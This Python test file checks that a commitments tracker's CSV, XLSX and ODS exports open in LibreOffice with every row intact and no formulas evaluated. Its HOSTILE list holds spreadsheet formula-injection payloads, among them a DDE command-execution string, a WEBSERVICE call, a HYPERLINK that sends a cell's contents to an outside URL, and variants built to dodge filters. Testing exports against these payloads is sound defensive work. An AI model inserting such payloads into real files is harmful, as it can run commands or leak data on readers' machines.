"""A reader opens what she took away in LibreOffice: all rows are there, texts read as written, and nothing ran."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.examples import draft_update, make_commitment, make_document, publish_as_approver
from tests.files import fetch
from tests.libreoffice import Cell, Sheet, open_files
from tracker.exports import SHEETS

pytestmark = [pytest.mark.once, pytest.mark.usefixtures("on_21_november_2026", "empty_register")]

ADDRESSES = ("/commitments.csv", "/commitments/updates.csv", "/commitments/evidence.csv")
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(1;1)",
    '=HYPERLINK("https://example.org/?"&A2;"press")',
    '=WEBSERVICE("https://example.org/")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1-1",
    "\uff20SUM(1;1)",
]
# These are harmless as they are, as long as commas, quotes and lines are kept together.
ODD = [" =1+1", 'A, "B"\n=1+1', 'A","=1+1', "A\r\n=1+1", ";=1+1", "'=1+1", "{=1+1}", "two  spaces\tand a tab ", "£5 m"]
COLUMNS = {"commitments": ("title", "summary"), "updates": ("reason",), "evidence": ("note", "document_title")}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with what readers download from a register that holds hostile texts."""
    for number, text in enumerate([*HOSTILE, *ODD], 1):
        document = make_document(f"document-{number}", title=text)
        commitment = make_commitment(f"REV-{number}", title=text, summary=text)
        evidence = {"document": document, "note": f"{text} is what it shows."}
        publish_as_approver(
            draft_update(commitment, reason=f"{text} is the reason that is given for this.", evidence=evidence)
        )
    for address in (*ADDRESSES, "/commitments.xlsx", "/commitments.ods"):
        (tmp_path / address.rpartition("/")[2]).write_bytes(fetch(address))
    return tmp_path


def expect(address: str) -> list[list[str]]:
    """Return the lines of a file as Python reads them."""
    return list(csv.reader(io.StringIO(fetch(address).decode(), newline="")))


def same_lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def show(cell: Cell) -> str:
    """Return what a cell holds as the CSV would have it."""
    return {"float": cell.value.removesuffix(".0"), "date": cell.value[:10]}.get(cell.kind, same_lines(cell.value))


def fill(rows: Sheet, width: int) -> list[list[Cell]]:
    return [row + [Cell("", "")] * (width - len(row)) for row in rows]


def check(sheet: Any, rows: Sheet, expected: list[list[str]]) -> None:
    """Hold a sheet as it was opened to the lines of its CSV."""
    width = len(sheet.header)
    assert [[show(cell) for cell in row] for row in fill(rows, width)] == [
        [same_lines(value) for value in line] for line in expected
    ]
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.formula] == []
    kinds = {column.name: column.kind for column in sheet.columns}
    for name in COLUMNS[sheet.name]:
        place = sheet.header.index(name)
        assert kinds[name] == "text"
        assert {row[place].kind for row in rows} == {"string"}


def test_the_csv_opens_with_all_rows_and_no_formula(folder: Path):
    (folder / "control.csv").write_text("plain\r\n=1+1\r\n")
    names = [address.rpartition("/")[2] for address in ADDRESSES]
    opened = open_files(folder, *(folder / name for name in [*names, "control.csv"]))
    assert opened["control.csv"]["control"] == [[Cell("string", "plain")], [Cell("float", "2", "of:=1+1")]]
    for sheet, name, address in zip(SHEETS, names, ADDRESSES, strict=True):
        (rows,) = opened[name].values()
        assert len(rows) == 1 + len(HOSTILE) + len(ODD)
        check(sheet, rows, expect(address))


def test_the_workbooks_open_with_all_rows_and_no_formula(folder: Path):
    control = openpyxl.Workbook()
    control.active.append(["=1+1"])
    control.save(folder / "control.xlsx")
    opened = open_files(folder, *(folder / name for name in ("commitments.xlsx", "control.xlsx")))
    assert opened["control.xlsx"]["Sheet"] == [[Cell("float", "2", "of:=1+1")]]
    opened |= open_files(folder, folder / "commitments.ods")
    for name in ("commitments.xlsx", "commitments.ods"):
        assert list(opened[name]) == ["commitments", "updates", "evidence", "about"]
        for sheet, address in zip(SHEETS, ADDRESSES, strict=True):
            check(sheet, opened[name][sheet.name], expect(address))
